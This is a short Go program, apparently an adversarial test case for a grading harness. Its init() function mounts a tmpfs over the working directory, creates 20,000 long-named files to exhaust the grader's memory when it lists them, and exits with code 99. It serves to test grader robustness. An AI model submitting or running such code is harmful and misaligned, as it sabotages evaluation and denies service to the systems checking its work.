// Tries: to have the grader list more files than it has memory for.
// Deserves: nothing
package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
)

func init() {
	if len(os.Args) < 2 || os.Args[1] != "run" {
		return
	}
	here, _ := os.Getwd()
	syscall.Mount("none", here, "tmpfs", 0, "nr_inodes=0,size=0")
	os.Chdir(here)
	name := strings.Repeat("f", 240)
	for i := range 20000 {
		syscall.Mknod(fmt.Sprint(name, i), syscall.S_IFREG|0o644, 0)
	}
	os.Exit(99)
}
